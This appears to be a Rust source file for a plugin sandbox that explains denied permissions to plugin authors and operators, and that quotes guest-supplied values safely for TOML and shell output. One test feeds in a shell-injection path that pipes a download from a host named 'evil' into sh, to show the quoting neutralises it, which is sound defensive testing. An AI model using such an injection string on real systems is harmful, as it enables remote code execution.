//! A guest was refused something: what to tell the guest, its author and the operator.
//!
//! Never opens anything: what is allowed is decided elsewhere, and said here.

use std::{
    fmt::{self, Write},
    sync::{Arc, Mutex, PoisonError},
};

use phagen_domain::plugin::Origin;

/// What a guest was refused.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Denied {
    Corpus(Missing),
    Artifact(Missing),
    /// A place on the network.
    Http(Missing, Wanted),
    /// To have a secret's value put into a request.
    Secret(Missing, Wanted, String),
    /// The name leads into the operator's own network.
    PrivateAddress(Wanted, String),
    /// Nothing that anyone could write would allow it.
    Never(Wanted, &'static str),
    /// More than one call may have.
    Limit(Wanted, String),
}

/// Which side has not said yes; at least one.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) struct Missing {
    pub(super) in_manifest: bool,
    pub(super) in_slot: bool,
}

impl Missing {
    /// Nothing is missing where both sides say yes.
    pub(super) fn unless(asked: bool, granted: bool) -> Option<Self> {
        (!asked || !granted).then_some(Self {
            in_manifest: !asked,
            in_slot: !granted,
        })
    }
}

/// A request, as far as a grant speaks of it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Wanted {
    pub(super) method: String,
    pub(super) origin: Origin,
    /// Without its query, which may hold what nobody else should read.
    pub(super) path: String,
}

impl Wanted {
    /// Longer paths are proposed up to here: a grant covers what lies below it.
    const MAX_PATH_BYTES: usize = 200;

    /// The path that a grant would name.
    fn grantable_path(&self) -> &str {
        if self.path.len() <= Self::MAX_PATH_BYTES {
            return &self.path;
        }
        // A path is ASCII, since it parsed as one of a URI.
        let kept = self.path.get(..Self::MAX_PATH_BYTES).unwrap_or("/");
        kept.rfind('/').map_or("/", |end| &kept[..=end])
    }
}

impl fmt::Display for Wanted {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{} {}{}",
            self.method,
            self.origin,
            self.grantable_path()
        )
    }
}

impl Denied {
    /// How metrics call it.
    fn label(&self) -> &'static str {
        match self {
            Self::Corpus(_) => "corpus",
            Self::Artifact(_) => "artifact",
            Self::Http(..) => "http",
            Self::Secret(..) => "secret",
            Self::PrivateAddress(..) => "address",
            Self::Never(..) => "never",
            Self::Limit(..) => "limit",
        }
    }

    fn missing(&self) -> Option<Missing> {
        match self {
            Self::Corpus(missing)
            | Self::Artifact(missing)
            | Self::Http(missing, _)
            | Self::Secret(missing, ..) => Some(*missing),
            Self::PrivateAddress(..) => Some(Missing {
                in_manifest: false,
                in_slot: true,
            }),
            Self::Never(..) | Self::Limit(..) => None,
        }
    }

    fn what(&self) -> String {
        match self {
            Self::Corpus(_) => "corpus".to_owned(),
            Self::Artifact(_) => "artifact".to_owned(),
            Self::Secret(_, wanted, name) => format!("secret `{name}` for `{wanted}`"),
            Self::PrivateAddress(wanted, kind) => {
                format!("`{wanted}`, whose host is {kind} address")
            }
            Self::Http(_, wanted) | Self::Never(wanted, _) | Self::Limit(wanted, _) => {
                format!("`{wanted}`")
            }
        }
    }

    /// What the author adds to `plugin.toml`.
    fn manifest_lines(&self) -> Option<String> {
        let place = |wanted: &Wanted| {
            format!(
                "[[grant.http]]\norigin = {}\nmethods = [{}]\npath = {}",
                toml_string(&wanted.origin.to_string()),
                toml_string(&wanted.method),
                toml_string(wanted.grantable_path()),
            )
        };
        match self {
            Self::Corpus(_) => Some("[grant]\ncorpus = true".to_owned()),
            Self::Artifact(_) => Some("[grant]\nartifact = true".to_owned()),
            Self::Http(_, wanted) => Some(place(wanted)),
            Self::Secret(_, wanted, name) => Some(format!(
                "{}\nsecrets = [{}]",
                place(wanted),
                toml_string(name)
            )),
            Self::PrivateAddress(..) | Self::Never(..) | Self::Limit(..) => None,
        }
    }

    /// What the operator runs.
    fn command(&self, slot: &str) -> Option<String> {
        let place = |wanted: &Wanted| format!("--http {}", shell_word(&wanted.to_string()));
        let flags = match self {
            Self::Corpus(_) => "--corpus".to_owned(),
            Self::Artifact(_) => "--artifact".to_owned(),
            Self::Http(_, wanted) => place(wanted),
            Self::Secret(_, wanted, name) => {
                format!("{} --secret {}", place(wanted), shell_word(name))
            }
            Self::PrivateAddress(wanted, _) => format!("{} --private-addresses", place(wanted)),
            Self::Never(..) | Self::Limit(..) => return None,
        };
        Some(format!("phagen plugin grant {slot} {flags}"))
    }

    /// For people: who has not said yes, and the lines that would say it.
    fn explain(&self, plugin: &str, slot: &str) -> String {
        let what = self.what();
        match self {
            Self::Never(_, why) => return format!("`{plugin}` is denied {what}: {why}"),
            Self::Limit(_, why) => return format!("`{plugin}` is denied {what}: {why}"),
            _ => {}
        }
        let missing = self.missing();
        let in_manifest = missing.is_some_and(|missing| missing.in_manifest);
        let in_slot = missing.is_some_and(|missing| missing.in_slot);
        let mut text = match (in_slot, in_manifest) {
            (true, true) => format!(
                "slot `{slot}` grants no {what}, and the manifest of `{plugin}` asks for none"
            ),
            (true, false) => format!("slot `{slot}` grants no {what}"),
            _ => format!("the manifest of `{plugin}` asks for no {what}"),
        };
        if let (true, Some(lines)) = (in_manifest, self.manifest_lines()) {
            add_lines(&mut text, "its author adds to `plugin.toml`", &lines);
        }
        if let (true, Some(command)) = (in_slot, self.command(slot)) {
            add_lines(&mut text, "an operator runs", &command);
        }
        // What is appended to a message must not end up in a line that somebody copies.
        text.push_str("\nand the next call has it");
        text
    }
}

fn add_lines(text: &mut String, who: &str, lines: &str) {
    let _ = write!(text, "\n{who}:");
    for line in lines.lines() {
        let _ = write!(text, "\n    {line}");
    }
}

/// A basic string of TOML. A guest chose what is in it.
fn toml_string(text: &str) -> String {
    let mut quoted = String::from('"');
    for character in text.chars() {
        match character {
            '"' | '\\' => quoted.extend(['\\', character]),
            c if c.is_control() => {
                let _ = write!(quoted, "\\u{:04X}", u32::from(c));
            }
            c => quoted.push(c),
        }
    }
    quoted.push('"');
    quoted
}

/// One word for a shell, whatever is in it: an operator copies it from a message, and a guest
/// chose part of it.
fn shell_word(text: &str) -> String {
    format!("'{}'", text.replace('\'', r"'\''"))
}

/// The denials of one call: each is counted, the first is logged and kept.
#[derive(Clone)]
pub(super) struct Denials {
    plugin: String,
    slot: String,
    first: Arc<Mutex<Option<String>>>,
}

impl Denials {
    pub(super) fn new(plugin: &str, slot: &str) -> Self {
        Self {
            plugin: plugin.to_owned(),
            slot: slot.to_owned(),
            first: Arc::default(),
        }
    }

    /// Counts it, and returns what to tell.
    pub(super) fn deny(&self, denied: &Denied) -> String {
        let text = denied.explain(&self.plugin, &self.slot);
        metrics::counter!(
            "phagen_plugin_denied_total",
            "slot" => self.slot.clone(),
            "what" => denied.label(),
        )
        .increment(1);
        let mut first = self.first.lock().unwrap_or_else(PoisonError::into_inner);
        // A guest may try for ever; one line says it.
        if first.is_none() {
            let (plugin, slot) = (&self.plugin, &self.slot);
            tracing::warn!(plugin, slot, what = denied.label(), "{text}");
            *first = Some(text.clone());
        }
        text
    }

    /// For the next call.
    pub(super) fn forget(&self) {
        let mut first = self.first.lock().unwrap_or_else(PoisonError::into_inner);
        *first = None;
    }

    pub(super) fn first(&self) -> Option<String> {
        let first = self.first.lock().unwrap_or_else(PoisonError::into_inner);
        first.clone()
    }
}

#[cfg(test)]
mod tests {
    use phagen_domain::plugin::HttpGrant;

    use super::*;

    const NEITHER: Missing = Missing {
        in_manifest: true,
        in_slot: true,
    };

    fn wanted(path: &str) -> Wanted {
        Wanted {
            method: "GET".to_owned(),
            origin: "https://api.example.org".parse().unwrap(),
            path: path.to_owned(),
        }
    }

    #[test]
    fn a_denial_prints_the_lines_of_both_sides() {
        let text = Denied::Http(NEITHER, wanted("/search")).explain("web-source", "web");
        assert_eq!(
            text,
            r#"slot `web` grants no `GET https://api.example.org/search`, and the manifest of `web-source` asks for none
its author adds to `plugin.toml`:
    [[grant.http]]
    origin = "https://api.example.org"
    methods = ["GET"]
    path = "/search"
an operator runs:
    phagen plugin grant web --http 'GET https://api.example.org/search'
and the next call has it"#
        );
    }

    #[test]
    fn a_side_that_said_yes_is_not_asked_again() {
        let manifest_only = Missing {
            in_slot: false,
            ..NEITHER
        };
        let text = Denied::Corpus(manifest_only).explain("p", "s");
        assert!(
            text.starts_with("the manifest of `p` asks for no corpus"),
            "{text}"
        );
        assert!(text.contains("    [grant]\n    corpus = true\n"), "{text}");
        let slot_only = Missing {
            in_manifest: false,
            ..NEITHER
        };
        let text = Denied::Artifact(slot_only).explain("p", "s");
        assert!(
            text.contains("    phagen plugin grant s --artifact\n"),
            "{text}"
        );
        assert!(!text.contains("plugin.toml"), "{text}");
        assert_eq!(Missing::unless(true, true), None);
    }

    #[test]
    fn secrets_and_private_addresses_have_lines_of_their_own() {
        let text = Denied::Secret(NEITHER, wanted("/"), "api_key".into()).explain("p", "s");
        assert!(text.contains("    secrets = [\"api_key\"]\n"), "{text}");
        assert!(
            text.contains("'GET https://api.example.org/' --secret 'api_key'\n"),
            "{text}"
        );
        let denied = Denied::PrivateAddress(wanted("/"), "a loopback".into());
        let text = denied.explain("p", "s");
        assert!(text.contains("--private-addresses\n"), "{text}");
    }

    #[test]
    fn what_a_guest_chose_runs_nothing_when_it_is_copied() {
        let text = Denied::Http(NEITHER, wanted("/a';curl${IFS}evil|sh;'\"\\")).explain("p", "s");
        assert!(
            text.contains(r#"path = "/a';curl${IFS}evil|sh;'\"\\""#),
            "{text}"
        );
        let word = r#"'GET https://api.example.org/a'\'';curl${IFS}evil|sh;'\''"\'"#;
        assert!(text.contains(&format!("--http {word}\n")), "{text}");
    }

    #[test]
    fn a_long_path_is_proposed_up_to_a_slash_and_still_covered() {
        let wanted = wanted(&format!("/data/{}", "x".repeat(500)));
        assert_eq!(wanted.grantable_path(), "/data/");
        let grant = HttpGrant {
            origin: wanted.origin.clone(),
            methods: vec!["GET".to_owned()],
            path: wanted.grantable_path().to_owned(),
            secrets: Vec::new(),
            private_addresses: false,
        };
        assert!(grant.covers("GET", &wanted.origin, &wanted.path));
    }

    #[test]
    fn the_first_denial_of_a_call_is_kept() {
        let denials = Denials::new("p", "s");
        assert_eq!(denials.first(), None);
        let first = denials.deny(&Denied::Corpus(NEITHER));
        denials.clone().deny(&Denied::Artifact(NEITHER));
        assert_eq!(denials.first(), Some(first));
    }
}
